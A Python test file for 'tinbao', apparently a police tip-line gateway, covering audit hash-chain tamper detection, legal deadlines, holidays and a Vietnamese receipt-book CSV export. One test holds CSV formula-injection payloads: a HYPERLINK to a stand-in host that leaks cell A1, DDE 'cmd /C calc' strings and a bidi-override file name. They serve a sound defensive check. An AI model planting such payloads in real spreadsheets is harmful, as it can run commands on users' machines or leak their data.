"""The audit trail (hash chain, `tinbao audit verify|list`), the legal clocks
(`tinbao due`, `notice`, `holiday`) and the receipt book (`tinbao book`)."""
import csv
import datetime
import getpass
import io
import json
import os
import shutil
import subprocess

from harness import (ARTIFACTS, BUILD, OFFICERS, Tinbao, _lock, check, citizen, unaccent,
                     wait_for)

DUTY = OFFICERS["duty"][1]


def started(name, **kw):
    h = Tinbao(name, **kw)
    h.full_roster()
    return h.start()


def sqlite(h, sql):
    p = subprocess.run(["sqlite3", "-cmd", ".timeout 10000", h.db, sql], capture_output=True, text=True, timeout=30)
    check(p.returncode == 0, "sqlite3 %s: %s" % (sql, p.stderr))


def verify(h, expect):
    p = h.cli("audit", "verify", "--json", expect=expect)
    return json.loads(p.stdout)


def test_audit_chain_catches_edit_delete_insert():
    h = started("audit", escalation={"ack_deadline": "2s", "level_deadline": "30s"})
    try:
        h.sms_in(citizen(), "Có người lạ cạy khóa xe máy ở hẻm 4")
        h.sms_in(citizen(), "Có nhóm thanh niên tụ tập đua xe trên đường Lê Lợi")
        tips = h.wait_tips(2)
        a, b = tips[0]["id"], tips[1]["id"]
        h.cli("ack", a, "--officer", DUTY)
        h.cli("close", a, "--officer", DUTY, "--note", "Đã kiểm tra")
        # the unacknowledged one escalates, and that is on record
        wait_for(lambda: h.tip(b)["escalations"], what="escalation of " + b)
        h.cli("tip", "show", b)
    finally:
        h.stop()
    events = h.cli_json("audit", "list", "--tip", a)
    actions = [e["action"] for e in events]
    for want in ("tip.new", "tip.ack", "tip.close", "tip.read"):
        check(want in actions, "%s not in the audit of %s: %r" % (want, a, actions))
    # the desk's actions: one row each, the login for the officer named
    desk = [e for e in events if e["action"] in ("tip.ack", "tip.close")]
    check([(e["action"], e["officer"], e["tip"]) for e in desk] ==
          [("tip.ack", OFFICERS["duty"][0], a), ("tip.close", OFFICERS["duty"][0], a)],
          repr(desk))
    reads = [e for e in events if e["action"] == "tip.read"] + desk
    check(all(e["actor"].startswith(getpass.getuser()) for e in reads), repr(reads))
    check(any(e["action"] == "tip.escalate" for e in h.cli_json("audit", "list", "--tip", b)),
          "escalation of %s not audited" % b)
    check(all(e["hash"] and len(e["hash"]) == 64 for e in h.cli_json("audit", "list")),
          "a row without a hash")

    ok = verify(h, 0)
    n = ok["rows"]
    check(ok["intact"] and n >= 8, repr(ok))
    check(h.cli("audit", "verify").stdout.strip() == "%d rows, chain intact" % n,
          h.cli("audit", "verify").stdout)
    saved = h.db + ".saved"
    shutil.copyfile(h.db, saved)

    def restore():
        for ext in ("-wal", "-shm"):
            if os.path.exists(h.db + ext):
                os.unlink(h.db + ext)
        shutil.copyfile(saved, h.db)

    sqlite(h, "UPDATE audit SET actor = 'someone else' WHERE id = 3")
    bad = verify(h, 1)
    check(bad["fault"] == "edited" and bad["row"] == 3, repr(bad))
    check("row 3 was edited" in h.cli("audit", "verify", expect=1).stdout, "plain text")
    restore()

    sqlite(h, "DELETE FROM audit WHERE id = 4")
    bad = verify(h, 1)
    check(bad["fault"] == "deleted" and bad["missing"] == [4, 4] and bad["row"] == 5, repr(bad))
    restore()

    sqlite(h, "INSERT INTO audit(at, actor, action, tip_id, detail) VALUES "
              "(strftime('%%s','now'), 'tinbaod', 'tip.close', 1, 'forged') " % ())
    bad = verify(h, 1)
    check(bad["fault"] == "inserted" and bad["row"] == n + 1, repr(bad))
    restore()

    # a row slipped into the middle of the chain, with a hash of its own
    sqlite(h, "UPDATE audit SET id = id + 1000 WHERE id > 5; "
              "INSERT INTO audit(id, at, actor, action, hash) VALUES (6, 1, 'x', 'y', "
              "'%s'); UPDATE audit SET id = id - 999 WHERE id > 1000" % ("ab" * 32))
    bad = verify(h, 1)
    check(bad["fault"] == "inserted" and bad["row"] == 6, repr(bad))
    restore()

    # deleting the newest row leaves a shorter chain that verifies: the
    # anchor tinbaod logs catches it
    head = verify(h, 0)["head"]
    anchor = "%d:%s" % (head["row"], head["hash"])
    h.cli("audit", "verify", "--anchor", anchor)
    sqlite(h, "DELETE FROM audit WHERE id = %d" % head["row"])
    verify(h, 0)
    out = h.cli("audit", "verify", "--anchor", anchor, expect=1).stdout
    check("anchor row %d is missing" % head["row"] in out, out)
    restore()
    check(verify(h, 0)["rows"] == n, "restored")


def local_date(iso):
    return datetime.datetime.fromisoformat(iso).date()


def weekend_holidays(received):
    """The holidays that push the receipt notice across a weekend, whatever
    day the tip came: every weekday after the day of receipt up to the first
    Saturday at least two days on. Never empty; a Saturday (and Sunday)
    always lies between the receipt and the first working day."""
    sat = received + datetime.timedelta(days=2)
    while sat.weekday() != 5:
        sat += datetime.timedelta(days=1)
    return [received + datetime.timedelta(days=k) for k in range(1, (sat - received).days)
            if (received + datetime.timedelta(days=k)).weekday() < 5]


def notice_day(received, holidays):
    """The third working day after the day of receipt, counted independently
    of tinbao (Monday to Friday, minus the holidays)."""
    left, d = 3, received
    while left:
        d += datetime.timedelta(days=1)
        if d.weekday() < 5 and d not in holidays:
            left -= 1
    return d


def test_weekend_plan_holds_on_every_weekday():
    """The date arithmetic of the test below, for a tip received on each of
    the seven weekdays (the suite once failed on Saturdays and Sundays)."""
    monday = datetime.date(2026, 11, 30)
    for k in range(7):
        r = monday + datetime.timedelta(days=k)
        hol = weekend_holidays(r)
        due = notice_day(r, hol)
        check(hol, "%s (%s): no holidays planned" % (r, r.strftime("%a")))
        check(all(x.weekday() < 5 and x > r for x in hol), "%s: %r" % (r, hol))
        check(any((r + datetime.timedelta(days=j)).weekday() >= 5
                  for j in range(1, (due - r).days)), "%s: no weekend before %s" % (r, due))
        check(due > max(hol) and due.weekday() < 5, "%s: due %s after %r" % (r, due, hol))


def test_due_across_a_weekend_and_notice():
    h = started("due")
    try:
        h.sms_in(citizen(), "Có đối tượng buôn bán pháo nổ ở chợ")
        t = h.wait_tips(1)[0]
    finally:
        h.stop()
    received = datetime.datetime.fromisoformat(t["created_at"])
    r = received.date()
    code = t["id"].split("-", 1)[1]

    def entries(*args):
        return {e["clock"]: e for e in h.cli_json("due", *args) if e["id"] == t["id"]}

    # The same tip received on each of the seven weekdays (its receipt moved
    # back by whole days): the notice day tinbao computes is the one counted
    # here, across the holidays that put a weekend in the way.
    for k in range(7):
        shifted = received - datetime.timedelta(days=k)
        rk = shifted.date()
        sqlite(h, "UPDATE tips SET created_at = created_at - %d WHERE code = '%s'"
               % ((86400 if k else 0), code))
        for x in h.cli_json("holiday", "list"):
            h.cli("holiday", "remove", x["day"])
        hol = weekend_holidays(rk)
        for x in hol:
            h.cli("holiday", "add", x.isoformat(), "Nghỉ bù (thử)")
        e = entries("--within", "30d")
        due = notice_day(rk, hol)
        check(e["notice"]["due"] == due.isoformat(),
              "received %s (%s): %r, want %s" % (rk, rk.strftime("%a"), e["notice"], due))
        check(datetime.datetime.fromisoformat(e["pass_on"]["due"]) ==
              shifted + datetime.timedelta(hours=24), repr(e["pass_on"]))
    sqlite(h, "UPDATE tips SET created_at = created_at + %d WHERE code = '%s'"
           % (6 * 86400, code))
    for x in h.cli_json("holiday", "list"):
        h.cli("holiday", "remove", x["day"])

    hol = weekend_holidays(r)
    for x in hol:
        h.cli("holiday", "add", x.isoformat(), "Nghỉ bù (thử)")
    h.cli("holiday", "add", hol[0].isoformat(), "again", expect=1)
    check([x["day"] for x in h.cli_json("holiday", "list")] == [x.isoformat() for x in hol],
          "holiday list")
    due = notice_day(r, hol)

    check(entries("--within", "1h") == {}, "nothing due within the hour")
    e = entries("--within", "30d")
    check(set(e) == {"pass_on", "notice"}, repr(e))
    check(e["notice"]["due"] == due.isoformat(), "%r, want %s" % (e["notice"], due))
    check(datetime.datetime.fromisoformat(e["pass_on"]["due"]) ==
          received + datetime.timedelta(hours=24), repr(e["pass_on"]))
    check(not e["notice"]["overdue"] and not e["pass_on"]["overdue"], repr(e))
    day_before = due - datetime.timedelta(days=1)
    e = entries("--within", "1h", "--at", day_before.isoformat() + " 12:00")
    check(set(e) == {"pass_on"} and e["pass_on"]["overdue"], repr(e))
    e = entries("--within", "1h", "--at", due.isoformat() + " 23:30")
    check(not e["notice"]["overdue"], repr(e))
    e = entries("--within", "1h", "--at", (due + datetime.timedelta(days=1)).isoformat() + " 00:30")
    check(e["notice"]["overdue"], repr(e))
    plain = h.cli("due", "--within", "30d").stdout
    check(t["id"] in plain and "notice" in plain and "pass on" in plain, plain)

    out = h.cli("notice", t["id"], "--officer", DUTY).stdout
    check("receipt notice recorded" in out, out)
    check("already recorded" in h.cli("notice", t["id"], "--officer", DUTY).stdout, "twice")
    check(set(entries("--within", "30d")) == {"pass_on"}, "notice still due after `notice`")
    acts = [x["action"] for x in h.cli_json("audit", "list", "--tip", t["id"])]
    check("tip.notice" in acts, repr(acts))
    check(any(x["action"] == "tip.read" and x["detail"].startswith("due")
              for x in h.cli_json("audit", "list", "--tip", t["id"])), "due read not audited")
    h.cli("holiday", "remove", hol[0].isoformat())
    h.cli("holiday", "remove", "2031-02-03", expect=1)
    h.cli("holiday", "add", "2026-02-30", "x", expect=2)
    verify(h, 0)


BOOK_HEAD = ["Số thứ tự", "Thời điểm tiếp nhận", "Kênh", "Mã tin báo", "Người tiếp nhận",
             "Người báo tin", "Nội dung tóm tắt", "Địa điểm, thời gian sự việc", "Phân loại",
             "Biện pháp đã làm", "Chuyển cho, lúc", "Ngày thông báo kết quả tiếp nhận",
             "Kết quả, ghi chú"]


def test_book_csv():
    h = started("book")
    numbers = [citizen(), citizen()]
    try:
        h.sms_in(numbers[0], "Có người bán ma túy ở hẻm 12, tối nào cũng có")
        h.sms_in(numbers[1], "Cháy nhà ở tổ 5!")
        tips = h.wait_tips(2)
    finally:
        h.stop()
    a, b = tips[0]["id"], tips[1]["id"]
    h.cli("ack", a, "--officer", DUTY)
    h.cli("close", a, "--officer", DUTY, "--note", 'Đã bắt giữ, thu "tang vật"')
    h.cli("notice", a, "--officer", DUTY)
    day = local_date(tips[0]["created_at"])
    frm = (day - datetime.timedelta(days=1)).isoformat()
    to = (local_date(tips[1]["created_at"]) + datetime.timedelta(days=1)).isoformat()
    raw = subprocess.run([os.path.join(BUILD, "tinbao"), "-c", h.conf, "book", "--from", frm,
                          "--to", to, "--csv"], capture_output=True, timeout=60)
    with _lock:
        ARTIFACTS.append(("tinbao book --csv (raw)", raw.stdout.decode("utf-8", "replace")))
    check(raw.returncode == 0 and raw.stdout.endswith(b"\r\n"), "RFC 4180 line ends")
    out = raw.stdout.decode("utf-8")
    rows = list(csv.reader(io.StringIO(out, newline="")))
    check(rows[0] == BOOK_HEAD, repr(rows[0]))
    body = rows[1:]
    check(len(body) == 2 and all(len(r) == len(BOOK_HEAD) for r in body), repr(body))
    check([r[0] for r in body] == ["1", "2"] and [r[3] for r in body] == [a, b], repr(body))
    check(all(r[5] == "Giữ bí mật" and r[2] == "SMS" for r in body), repr(body))
    check(body[0][4] == OFFICERS["duty"][0] and body[1][4] == "", repr(body))
    check("ma túy" in body[0][8] and "khẩn cấp" in body[1][8], repr([r[8] for r in body]))
    check('thu "tang vật"' in body[0][12] and body[0][11], repr(body[0]))
    check("hẻm 12, tối" in body[0][6], repr(body[0][6]))
    for n in numbers:
        check(n not in out and n[3:] not in out, "a citizen number in the book")
    plain = h.cli("book", "--from", frm, "--to", to).stdout
    check("SỔ TIẾP NHẬN" in plain and a in plain and "Giữ bí mật" in plain, plain)
    empty = h.cli("book", "--from", "2020-01-01", "--to", "2020-01-31").stdout
    check("Không có tin báo nào được tiếp nhận" in empty, empty)    # the book is Vietnamese
    h.cli("book", "--from", to, "--to", frm, expect=2)
    check(any(e["action"] == "tip.read" and e["detail"].startswith("book")
              for e in h.cli_json("audit", "list", "--tip", b)), "book read not audited")
    verify(h, 0)


FORMULA_TIPS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "   =1+2 sau ba dấu cách",
    "\t=1+2 sau một tab",
    "\u202eexe.gnp có người lạ ở chợ",
]


def csv_dangerous(field):
    """A cell a spreadsheet would run as a formula, or one that reorders text."""
    lead = field.lstrip(" \t\r\n")
    bidi = any(0x202A <= ord(c) <= 0x202E or 0x2066 <= ord(c) <= 0x2069 for c in field)
    return bidi or (field[:1] in ("\t", "\r")) or (lead[:1] in ("=", "+", "-", "@") and
                                                   not field.startswith("'"))


def test_book_csv_runs_no_formula():
    """Issue 9.3: tip texts and notes that a spreadsheet would run come out
    of `tinbao book --csv` with a leading ', and bidi controls stripped."""
    h = started("bookcsv")
    try:
        for text in FORMULA_TIPS:
            h.sms_in(citizen(), text)
        tips = h.wait_tips(len(FORMULA_TIPS))
    finally:
        h.stop()
    h.cli("ack", tips[0]["id"], "--officer", DUTY)
    h.cli("close", tips[0]["id"], "--officer", DUTY, "--note", "=1+1 đã xong")
    day = local_date(tips[0]["created_at"])
    frm, to = (day - datetime.timedelta(days=1)).isoformat(), \
        (day + datetime.timedelta(days=2)).isoformat()
    raw = subprocess.run([os.path.join(BUILD, "tinbao"), "-c", h.conf, "book", "--from", frm,
                          "--to", to, "--csv"], capture_output=True, timeout=60)
    check(raw.returncode == 0, raw.stderr)
    rows = list(csv.reader(io.StringIO(raw.stdout.decode("utf-8"), newline="")))
    body = rows[1:]
    check(len(body) == len(FORMULA_TIPS), repr(rows))
    bad = [f for r in rows for f in r if csv_dangerous(f)]
    check(not bad, "cells a spreadsheet would run or reorder: %r" % bad)
    summaries = [r[6] for r in body]
    check(any(s.startswith("'=HYPERLINK(") for s in summaries), repr(summaries))
    check(any(s.startswith("'+cmd") for s in summaries), repr(summaries))
    check(any("exe.gnp có người lạ" in s for s in summaries), repr(summaries))
    check(any(r[12].startswith("Đã xử lý xong") for r in body), "the result column as before")


def test_daily_summary_reaches_the_leader_once_a_day():
    h = started("daily")
    try:
        h.sms_in(citizen(), "Có người tàng trữ vũ khí trong nhà kho tổ 2")
        t = h.wait_tips(1)[0]
    finally:
        h.stop()
    check(not h.to_officer("leader", "daily_summary"), "summary while off")
    # the summary's hour has come (00:00 local): sent at start, once
    with open(h.conf) as f:
        conf = f.read()
    with open(h.conf, "w") as f:
        f.write(conf.replace("daily_summary = off", "daily_summary = 00:00"))
    h.start()
    try:
        got = wait_for(lambda: h.to_officer("leader", "daily_summary"), what="daily summary")
        text = unaccent(got[0]["text"])
        check("TOM TAT CA TRUC" in text.upper() and "1 tin dang mo" in text, text)
        check(t["id"] in text and "24 gio chuyen Co quan dieu tra" in text, text)
        check(not h.to_officer("duty", "daily_summary") and
              not h.to_officer("backup", "daily_summary"), "summary to a non-leader")
        head = wait_for(lambda: [ln for ln in h.log().splitlines()
                                 if "audit chain head: row" in ln], what="chain head logged")
    finally:
        h.stop()
    h.start()          # a restart the same day sends nothing more
    try:
        wait_for(lambda: h.query("SELECT 1 FROM inbound") is not None, what="started")
        h.sms_in(citizen(), "Thêm một tin để chắc router đã chạy")
        h.wait_tips(2)
    finally:
        h.stop()
    check(len(h.to_officer("leader", "daily_summary")) == 1, "summary sent twice in a day")
    anchor = head[0].split("--anchor ")[1].rstrip(")").strip()
    h.cli("audit", "verify", "--anchor", anchor)
    h.cli("audit", "verify")


def test_daily_summary_with_no_leader_on_duty_reaches_the_most_senior():
    # a weekend night: the duty officer and the backup are on duty, no shift
    # leader and no chief. The legal clocks in the summary must still reach
    # a person: the backup, the highest level on duty.
    h = Tinbao("daily-noleader", gateway={"daily_summary": "00:00"})
    h.add_officer("duty")
    h.add_officer("backup")
    h.add_officer("leader", always=False)
    h.start()
    try:
        got = wait_for(lambda: h.to_officer("backup", "daily_summary"), what="daily summary")
        check("TOM TAT CA TRUC" in unaccent(got[0]["text"]).upper(), got[0]["text"])
        check(not h.to_officer("duty", "daily_summary"), "the summary to a lower level too")
        check(not h.to_officer("leader", "daily_summary"), "the summary to a leader off duty")
        wait_for(lambda: "no shift leader on duty" in h.log() and "level 2 instead" in h.log(),
                 what="the stand-in logged")
    finally:
        h.stop()
    rows = h.query("SELECT detail FROM audit WHERE action = 'daily.summary'")
    check(len(rows) == 1 and "no shift leader on duty; to 1 officer on duty at level 2"
          in rows[0]["detail"], repr(rows))


def chain_hash(row, prev):
    """The canonical form of gateway/audit.c, written again from its comment."""
    import hashlib
    actor, action = row["actor"].encode(), row["action"].encode()
    detail = (row["detail"] or "").encode()
    officer, seals = (row.get("officer") or "").encode(), (row.get("seals") or "").encode()
    v2 = row.get("officer") is not None or row.get("seals") is not None
    head = "tinbao-audit-v%d\n%d\n%d\n%d\n" % (2 if v2 else 1, row["id"], row["at"],
                                              row["tip_id"] or 0)
    lens = "%d\n%d\n%s%d\n" % (len(actor), len(action),
                               "null\n" if row["detail"] is None else "", len(detail))
    tail = b""
    if v2:
        lens += "%s%d\n%s%d\n" % ("null\n" if row["officer"] is None else "", len(officer),
                                  "null\n" if row["seals"] is None else "", len(seals))
        tail = officer + b"\n" + seals + b"\n"
    return hashlib.sha256(head.encode() + lens.encode() + actor + b"\n" + action + b"\n" +
                          detail + b"\n" + tail + prev.encode()).hexdigest()


def test_legacy_rows_and_a_recomputed_chain():
    h = Tinbao("legacy")
    h.add_officer("duty")
    # rows as tinbao wrote them before schema version 4: no hash
    sqlite(h, "INSERT INTO audit(at, actor, action) VALUES (1700000000, 'tinbaod', 'tip.new'), "
              "(1700000001, 'An', 'tip.ack')")
    h.cli("tips")
    h.cli("holiday", "add", "2026-09-02", "Quốc khánh")
    v = verify(h, 0)
    check(v["rows"] == 4 and v["legacy"] == 2, repr(v))
    out = h.cli("audit", "verify").stdout
    check("4 rows, chain intact (the first 2 from before the chain" in out, out)
    # the format is what the documentation says: recompute it independently
    rows = h.query("SELECT * FROM audit ORDER BY id")
    prev = ""
    for r in rows[2:]:
        check(chain_hash(r, prev) == r["hash"], "row %d: hash differs from the format" % r["id"])
        prev = r["hash"]
    # Someone who edits a row and recomputes every hash after it leaves a
    # chain that verifies; the anchor from the daemon's log does not match.
    anchor = "%d:%s" % (v["head"]["row"], v["head"]["hash"])
    sqlite(h, "UPDATE audit SET actor = 'nobody' WHERE id = 3")
    verify(h, 1)
    rows = h.query("SELECT * FROM audit ORDER BY id")
    prev = ""
    for r in rows[2:]:
        prev = chain_hash(r, prev)
        sqlite(h, "UPDATE audit SET hash = '%s' WHERE id = %d" % (prev, r["id"]))
    verify(h, 0)
    out = h.cli("audit", "verify", "--anchor", anchor, expect=1).stdout
    check("anchor row 4 has another hash" in out, out)
    h.cli("audit", "verify", "--anchor", "4:xyz", expect=2)


def test_desk_page_reads_collapse_and_the_list_reads_well():
    """An open desk page reloads every 30 s: its identical reads are one row
    with a count and the last time, the next event seals the count into the
    chain, and `audit verify` catches a count changed after that. `audit
    list` shows the tracking ID, the officer by name and the desk's login
    for whom it acted."""
    from test_admin_api import TOKEN, request
    h = Tinbao("audit-page", http=True, admin_token=TOKEN)
    h.full_roster()
    h.start()
    try:
        h.sms_in(citizen(), "Có người lạ cạy khóa xe máy ở hẻm 4")
        tid = h.wait_tips(1)[0]["id"]
        for _ in range(10):
            status, _, _ = request(h, "GET", "/", token=None, basic="Nguyễn Văn An:" + TOKEN)
            check(status == 200, "page: %d" % status)
        rows = [e for e in h.cli_json("audit", "list") if e["actor"] == "desk page"]
        check([(e["officer"], e["reads"], e["tip"]) for e in rows] ==
              [("Nguyễn Văn An", 10, None)] and rows[0]["last_at"] and tid in rows[0]["detail"],
              repr(rows))
        v = verify(h, 0)
        check(v["intact"] and v["open"] == 1, repr(v))
        # the next event (a desk action) seals the count
        h.cli("ack", tid, "--officer", OFFICERS["backup"][1])
        v = verify(h, 0)
        check(v["intact"] and v["open"] == 0, repr(v))
        page_row = rows[0]["row"]
        sqlite(h, "UPDATE audit SET reads = 3 WHERE id = %d" % page_row)
        bad = verify(h, 1)
        check(bad["fault"] == "reads_edited" and bad["row"] == page_row, repr(bad))
        out = h.cli("audit", "verify", expect=1).stdout
        check("row %d was edited: its count of reads" % page_row in out, out)
        sqlite(h, "UPDATE audit SET reads = 10 WHERE id = %d" % page_row)
        verify(h, 0)
        # the list as people read it, in both languages
        me = getpass.getuser()
        en = h.cli("audit", "list", "--tip", tid).stdout
        vi = h.cli("audit", "list", "--tip", tid, lang="vi_VN.UTF-8").stdout
        ack = [ln for ln in en.splitlines() if " acknowledged " in ln]
        check(len(ack) == 1 and tid in ack[0] and "%s for Trần Thị Bình" % me in ack[0], en)
        check("(read 10 times, the last at" in en and "desk page (Nguyễn Văn An)" in en, en)
        ack = [ln for ln in vi.splitlines() if " đã nhận " in ln]
        check(len(ack) == 1 and "%s thay Đ/c Trần Thị Bình" % me in ack[0], vi)
        check("(đã xem 10 lần, lần cuối lúc" in vi and "trang bàn trực (Nguyễn Văn An)" in vi,
              vi)
        one = h.cli_json("audit", "list", "--tip", tid)
        check(all(e["tip"] in (tid, None) for e in one) and
              any(e["tip"] == tid and e["action"] == "tip.ack" for e in one), repr(one))
    finally:
        h.stop()
